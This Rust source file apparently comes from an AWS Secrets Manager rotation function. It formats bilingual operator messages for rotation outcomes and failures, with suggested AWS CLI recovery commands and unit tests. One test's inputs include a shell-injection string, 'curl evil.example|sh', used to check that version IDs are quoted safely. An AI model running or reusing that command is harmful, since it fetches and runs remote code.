//! The channel's messages about rotations: the event, the secret, the next step.

use super::{Request, RotationError, Step};
use crate::command;
use crate::run::command::secrets;
use crate::run::markdown::code;
use crate::run::notify::{Message, next_step};
use crate::runtime::failure::{Failure, chain};
use crate::runtime::language::Language;
use crate::runtime::settings::Settings;

/// The operator's text for a failure, besides its kind.
#[derive(Clone, Debug, Eq, PartialEq)]
pub struct Advice {
    /// The cause, in a sentence.
    pub cause: String,
    /// The value in force now.
    pub in_force: InForce,
    /// The operator's next step.
    pub next: String,
}

/// The value that the application can use after a failure.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum InForce {
    /// The current one.
    Current,
    /// Possibly the pending one: the answer to a change did not arrive.
    Unsure,
    /// The pending one; the current one is no longer accepted.
    Pending,
    /// Neither of the two.
    Nothing,
}

impl Request {
    /// The name in the secret's ARN: without the six characters that the service appends.
    pub fn secret_name(&self) -> &str {
        let resource =
            self.secret_id.rsplit_once(":secret:").map_or(self.secret_id.as_str(), |(_, name)| name);
        resource.rsplit_once('-').filter(|(_, suffix)| suffix.len() == 6).map_or(resource, |(name, _)| name)
    }
}

/// The message of a finished rotation.
pub(super) fn rotated(
    settings: &Settings,
    name: &str,
    request: &Request,
    previous: Option<&str>,
    is_read_by_tasks: bool,
    findings: &[String],
) -> Message {
    let (project, environment, language) = (&settings.project, &settings.environment, settings.language);
    let token = &request.token;
    let (current, previous) = (code(token), code(previous.unwrap_or("—")));
    // The names of cluster and service in the application's Terraform.
    let deploy = command!(
        "aws ecs update-service --cluster {project}-{environment}-cluster --service {project}-{environment}-api --force-new-deployment",
        project,
        environment
    );
    let deploy = deploy.code();
    let title = crate::tr!(language, "Segredo rotacionado: {name}", "Secret rotated: {name}");
    let mut lines = vec![crate::tr!(
        language,
        "Versão nova (AWSCURRENT): {current}\nVersão anterior (AWSPREVIOUS): {previous}",
        "New version (AWSCURRENT): {current}\nPrevious version (AWSPREVIOUS): {previous}",
    )];
    // A value that no task reads needs no deployment.
    if is_read_by_tasks {
        lines.push(crate::tr!(
            language,
            "O acompanhamento (rotation-followup) força o deployment e prova o valor novo; a mensagem dele é a próxima. *Próximo passo*, só se ela não vier em 30 min: {deploy}",
            "The follow-up (rotation-followup) forces a deployment and proves the new value; its message is the next one. *Next step*, only if it does not come within 30 min: {deploy}",
        ));
    }
    lines.extend_from_slice(findings);
    Message::new(settings, &title, lines, token)
}

/// The message of a failed step.
pub(super) fn failed(
    settings: &Settings,
    request: &Request,
    error: &impl Failure,
    advice: Advice,
    run_id: &str,
) -> Message {
    let (step, kind, language) = (request.step, error.kind(), settings.language);
    let name = request.secret_name();
    let title = crate::tr!(language, "Rotação falhou: {name}", "Rotation failed: {name}");
    let in_force = match advice.in_force {
        InForce::Current => language.pick(
            "O valor atual (AWSCURRENT) continua valendo. Versões:",
            "The current value (AWSCURRENT) is still in force. Versions:",
        ),
        InForce::Unsure => language.pick(
            "O valor novo pode já estar valendo: a última resposta não chegou. Conferir com",
            "The new value may be in force already, because the last answer did not arrive. Check with",
        ),
        InForce::Pending => language.pick(
            "Só o valor pendente (AWSPENDING) está valendo; o atual (AWSCURRENT) não é mais aceito até a rotação terminar. Versões:",
            "Only the pending value (AWSPENDING) is in force; the current one (AWSCURRENT) is not accepted until the rotation is finished. Versions:",
        ),
        InForce::Nothing => language.pick(
            "Nem o valor atual (AWSCURRENT) nem o pendente está valendo. Versões:",
            "Neither the current value (AWSCURRENT) nor the pending one is in force. Versions:",
        ),
    };
    let versions = secrets::versions(&request.secret_id).code();
    let lines = vec![
        format!("{step}: *{kind}*: {}", advice.cause),
        format!("{in_force} {versions}"),
        next_step(language, &advice.next),
    ];
    Message::new(settings, &title, lines, run_id).detailed(&chain(error))
}

impl RotationError {
    /// The operator's text for the failure.
    pub fn advise(&self, language: Language, request: &Request) -> Advice {
        let unanswered = match self {
            Self::Deadline(_) | Self::Evidence(_) => true,
            Self::SecretsManager(call) => !call.is_denied(),
            _ => false,
        };
        let in_force = match request.step {
            Step::FinishSecret if unanswered => InForce::Unsure,
            _ => InForce::Current,
        };
        Advice { cause: self.cause(language), in_force, next: self.next_step(language, request) }
    }

    /// The cause, in a sentence.
    pub fn cause(&self, language: Language) -> String {
        if language == Language::English {
            return self.to_string();
        }
        match self {
            Self::InvalidEvent { field, .. } => {
                format!("o evento não é do Secrets Manager (campo {field})")
            }
            Self::RotationNotEnabled { .. } => "a rotação não está ligada para o segredo".to_owned(),
            Self::UnknownVersion { .. } => {
                "o segredo não tem mais essa versão; a rotação não começou no Secrets Manager, ou foi abandonada"
                    .to_owned()
            }
            Self::NotPending { .. } => {
                "a versão não está em AWSPENDING; a rotação foi abandonada ou outra tomou o lugar dela".to_owned()
            }
            Self::CurrentMoved { .. } => {
                "alguém moveu o AWSCURRENT à mão durante a rotação; ele fica onde está".to_owned()
            }
            Self::InvalidTag { tag, .. } => format!("a tag {tag} do segredo está errada"),
            Self::WrongForm { .. } => "o valor guardado não tem a forma esperada".to_owned(),
            Self::EmptyPending => "a versão pendente ainda não tem valor".to_owned(),
            Self::ForeignPending { .. } => {
                "o valor em AWSPENDING não foi criado por esta função: alguém o escreveu no segredo. Ele não é usado"
                    .to_owned()
            }
            Self::PendingRejected { .. } => "o valor pendente não é o que a política pede".to_owned(),
            Self::CurrentChanged => {
                "outra parte do segredo mudou depois que o valor pendente foi feito; terminar desfaria a mudança"
                    .to_owned()
            }
            Self::NoRandomness => "o gerador aleatório do sistema operacional falhou".to_owned(),
            Self::Deadline(_) => "o passo não terminou no tempo da invocação".to_owned(),
            Self::SecretsManager(call) => format!("a chamada {} falhou ({})", call.operation, call.code),
            Self::Evidence(_) => {
                "as notas da rotação, no bucket de evidências, não puderam ser lidas ou escritas".to_owned()
            }
        }
    }

    fn next_step(&self, language: Language, request: &Request) -> String {
        let say = |portuguese: &str, english: &str| language.pick(portuguese, english).to_owned();
        let secret = &request.secret_id;
        let rotate = secrets::rotate(secret).code();
        let clear = secrets::clear(secret, &request.token).code();
        let at_once = say("(troca o valor na hora)", "(changes the value at once)");
        match self {
            Self::RotationNotEnabled { holder } => format!(
                "{} {} {}",
                say(
                    "se a rotação deve acontecer, ligá-la de novo, sem trocar o valor agora:",
                    "if the rotation is wanted, turn it on again without changing the value now:",
                ),
                // Secrets Manager starts no rotation while AWSPENDING is on another version than AWSCURRENT.
                holder.as_ref().map(|holder| secrets::clear(secret, holder).code()).unwrap_or_default(),
                secrets::enable(secret).code()
            ),
            Self::UnknownVersion { holder: Some(holder), .. }
            | Self::NotPending { holder: Some(holder), .. } => format!(
                "{} {} {} {rotate} {at_once}.",
                say(
                    "o AWSPENDING está em outra versão, e enquanto estiver nenhuma rotação começa. Se nenhuma rotação em curso a fez (CloudTrail diz quem chamou PutSecretValue ou UpdateSecretVersionStage), tirá-lo dela com",
                    "AWSPENDING is on another version, which prevents any rotation. Unless a rotation in progress made that version (CloudTrail has the caller of PutSecretValue or UpdateSecretVersionStage), remove the label with",
                ),
                secrets::clear(secret, holder).code(),
                say("e rotacionar de novo com", "and rotate again with"),
            ),
            Self::UnknownVersion { .. } | Self::NotPending { .. } => format!(
                "{} {rotate} {at_once}.",
                say(
                    "alguém mudou o segredo durante a rotação. Conferir qual versão vale e, se for preciso, rotacionar de novo:",
                    "the secret was changed during the rotation. Check which version is in force and, if needed, rotate again:",
                ),
            ),
            Self::CurrentMoved { .. } => format!(
                "{} {} {} {rotate} {at_once}.",
                say(
                    "conferir qual versão vale. Enquanto o AWSPENDING estiver na versão desta rotação, as tentativas se repetem; removê-lo com",
                    "check which version is in force. Secrets Manager retries while AWSPENDING is on this rotation's version; remove it with",
                ),
                clear,
                say("e, se for preciso, rotacionar de novo com", "and, if needed, rotate again with"),
            ),
            Self::InvalidTag { .. } => say(
                "corrigir as tags rotation:* do segredo ou a política (`cargo xtask policy apply`); a próxima tentativa usa a correção.",
                "correct the secret's rotation:* tags or the policy (`cargo xtask policy apply`); the next attempt uses the correction.",
            ),
            // Storing a new version by hand ends this rotation.
            Self::WrongForm { .. } => format!(
                "{} {rotate} {at_once}.",
                say(
                    "conferir se esta é a função certa para o segredo e se o valor guardado tem a forma que a política indica (a linha miúda diz o que falta). Guardar o valor certo e rotacionar de novo:",
                    "check that this is the right function for the secret and that the stored value has the form set in the policy (see the small print). Store a correct value and rotate again:",
                ),
            ),
            Self::ForeignPending { .. } => format!(
                "{} {} {} {rotate} {at_once}.",
                say(
                    "descobrir no CloudTrail quem chamou PutSecretValue com essa versão. Descartar o valor com",
                    "find the caller of PutSecretValue for this version in CloudTrail. Discard the value with",
                ),
                clear,
                say("e rotacionar de novo com", "and rotate again with",),
            ),
            Self::PendingRejected { .. } | Self::CurrentChanged => format!(
                "{} {} {} {rotate} {at_once}.",
                say(
                    "o valor pendente não pode mais ser alterado. Desfazer com",
                    "the pending value can no longer be changed. Clear it with",
                ),
                clear,
                say("e rotacionar de novo com", "and rotate again with"),
            ),
            Self::InvalidEvent { .. } | Self::EmptyPending | Self::NoRandomness | Self::Deadline(_) => say(
                "nada a fazer agora: o Secrets Manager tenta de novo com a mesma versão. Se a falha se repetir, ver os logs da função.",
                "nothing now: Secrets Manager tries again with the same version. If the failure repeats, check the function's logs.",
            ),
            // A slow invocation: the label moved between two of its calls.
            Self::SecretsManager(call)
                if matches!(call.code.as_str(), "InvalidRequestException" | "InvalidParameterException") =>
            {
                format!(
                    "{} {}",
                    say(
                        "o Secrets Manager tenta de novo com a mesma versão. Um rótulo pode ter mudado entre duas chamadas (a linha miúda diz); se a falha se repetir, ver onde estão os rótulos:",
                        "Secrets Manager tries again with the same version. A label may have moved between two calls (see the small print); if the failure repeats, check the labels:",
                    ),
                    secrets::versions(secret).code()
                )
            }
            Self::SecretsManager(call) => format!(
                "{} {}.",
                say(
                    "o Secrets Manager tenta de novo com a mesma versão. Se a falha se repetir, conferir a permissão (IAM, KMS) para",
                    "Secrets Manager tries again with the same version. If the failure repeats, check the permission (IAM, KMS) for",
                ),
                call.operation
            ),
            Self::Evidence(_) => say(
                "o Secrets Manager tenta de novo com a mesma versão. Se a falha se repetir, conferir o bucket de evidências e a permissão da função nele (a linha miúda diz a chamada).",
                "Secrets Manager tries again with the same version. If the failure repeats, check the evidence bucket and the function's permissions there (the small print names the call).",
            ),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn request(step: Step) -> Request {
        Request {
            secret_id: "arn:aws:secretsmanager:us-east-1:123456789012:secret:/moveongs/dev/jwt-a1B2c3"
                .to_owned(),
            token: "4f1c2a7e-8d4b-4c55-9b0e-2f6f3a9d7c10".to_owned(),
            rotation_token: None,
            step,
        }
    }

    /// The message of a failure at a step.
    fn message(language: Language, step: Step, error: &RotationError) -> String {
        let settings = Settings {
            function: "moveongs-dev-rotate".to_owned(),
            project: "moveongs".to_owned(),
            environment: "dev".to_owned(),
            code_version: "x".to_owned(),
            language,
            policy: "".parse().unwrap(),
        };
        let request = request(step);
        failed(&settings, &request, error, error.advise(language, &request), &request.token).text()
    }

    #[test]
    fn every_failure_names_secret_step_kind_and_next_step_in_both_languages() {
        let reason = || "why".to_owned();
        let call = crate::runtime::failure::CallError {
            operation: "secretsmanager:GetSecretValue",
            code: "AccessDeniedException".to_owned(),
            message: reason(),
        };
        let late = crate::runtime::lambda::DeadlineExceeded { allowed: std::time::Duration::from_secs(20) };
        let failures = [
            (RotationError::InvalidEvent { field: "Step", expected: "a string" }, ""),
            (RotationError::RotationNotEnabled { holder: None }, "--no-rotate-immediately"),
            (
                RotationError::RotationNotEnabled { holder: Some("newer".to_owned()) },
                "--version-stage AWSPENDING --remove-from-version-id newer",
            ),
            (RotationError::UnknownVersion { token: reason(), holder: None }, "rotate-secret --secret-id"),
            (
                RotationError::UnknownVersion { token: reason(), holder: Some("newer".to_owned()) },
                "--version-stage AWSPENDING --remove-from-version-id newer",
            ),
            (RotationError::NotPending { token: reason(), holder: None }, "rotate-secret --secret-id"),
            (
                RotationError::NotPending { token: reason(), holder: Some("newer".to_owned()) },
                "--version-stage AWSPENDING --remove-from-version-id newer",
            ),
            (RotationError::CurrentMoved { token: reason() }, "--remove-from-version-id 4f1c2a7e"),
            (RotationError::InvalidTag { tag: reason(), reason: reason() }, "rotation:*"),
            (RotationError::WrongForm { reason: reason() }, "rotate-secret --secret-id"),
            (RotationError::EmptyPending, ""),
            (
                RotationError::PendingRejected { reason: reason() },
                "--version-stage AWSPENDING --remove-from-version-id 4f1c2a7e",
            ),
            (
                RotationError::ForeignPending { token: reason() },
                "--version-stage AWSPENDING --remove-from-version-id 4f1c2a7e",
            ),
            (RotationError::CurrentChanged, "--remove-from-version-id 4f1c2a7e"),
            (RotationError::NoRandomness, ""),
            (RotationError::Deadline(late), ""),
            (RotationError::Evidence(crate::run::documents::DocumentError::Contended(String::new())), ""),
            (RotationError::SecretsManager(call), "secretsmanager:GetSecretValue"),
        ];
        for (error, command) in failures {
            let next = error.advise(Language::English, &request(Step::TestSecret)).next;
            let line = format!("\nrotation {} ", error.kind());
            let how = include_str!("../../../tests/e2e/advised.txt").split_once(&line).map(|(_, how)| how);
            assert!(
                how.is_some_and(|how| how.starts_with("-\n") != next.contains("`aws "))
                    || next.contains("IAM, KMS"),
                "{line}{next}"
            );
            let [portuguese, english] = [Language::Portuguese, Language::English]
                .map(|language| message(language, Step::TestSecret, &error));
            assert_ne!(portuguese, english);
            for (text, next) in [(&portuguese, "Próximo passo"), (&english, "Next step")] {
                let (title, _) = text.split_once('\n').unwrap();
                assert!(title.ends_with(": /moveongs/dev/jwt (dev)"), "{title}");
                let detail = chain(&error);
                let small =
                    format!("\n{detail} · moveongs-dev-rotate · {} · x", request(Step::TestSecret).token);
                assert!(text.ends_with(&small), "{text}");
                for part in ["/moveongs/dev/jwt", "testSecret", error.kind(), next, command] {
                    assert!(text.contains(part), "{part} is not in: {text}");
                }
            }
        }
    }

    #[cfg(feature = "testing")]
    #[test]
    fn a_version_id_stays_one_word_of_the_command() {
        for token in ["x;curl evil.example|sh;#aaaaaaaaaaaa", "x`y", "x'y", "$(x)"] {
            let request = Request { token: token.to_owned(), ..request(Step::TestSecret) };
            let next = RotationError::CurrentChanged.advise(Language::English, &request).next;
            let command = next.split('`').find(|code| code.contains("--remove-from-version-id")).unwrap();
            assert_eq!(crate::testing::words(command).pop().as_deref(), Some(token));
        }
    }

    #[test]
    fn a_finish_without_an_answer_does_not_claim_that_the_old_value_holds() {
        let late = crate::runtime::lambda::DeadlineExceeded { allowed: std::time::Duration::from_secs(20) };
        let text = |step| message(Language::English, step, &RotationError::Deadline(late.clone()));
        let finish = text(Step::FinishSecret);
        assert!(finish.contains("may be in force already") && !finish.contains("still in force"));
        assert!(text(Step::TestSecret).contains("still in force"));
    }

    #[test]
    fn a_moved_label_is_not_reported_as_a_missing_permission() {
        let call = |code: &str| {
            RotationError::SecretsManager(crate::runtime::failure::CallError {
                operation: "secretsmanager:UpdateSecretVersionStage",
                code: code.to_owned(),
                message: "why".to_owned(),
            })
        };
        let text = |code| message(Language::English, Step::SetSecret, &call(code));
        assert!(text("InvalidRequestException").contains("label may have moved"));
        assert!(!text("InvalidRequestException").contains("IAM, KMS"));
        assert!(text("AccessDeniedException").contains("IAM, KMS"));
    }

    #[test]
    fn the_name_is_read_from_the_arn() {
        let name = |name: &str| {
            let secret_id = format!("arn:aws:secretsmanager:sa-east-1:123456789012:secret:{name}");
            Request { secret_id, ..request(Step::SetSecret) }.secret_name().to_owned()
        };
        assert_eq!(name("/moveongs/dev/jwt-a1B2c3"), "/moveongs/dev/jwt");
        assert_eq!(name("moveongs-dev-jwt-a1B2c3"), "moveongs-dev-jwt");
        assert_eq!(name("moveongs-dev-jwt"), "moveongs-dev-jwt");
    }
}
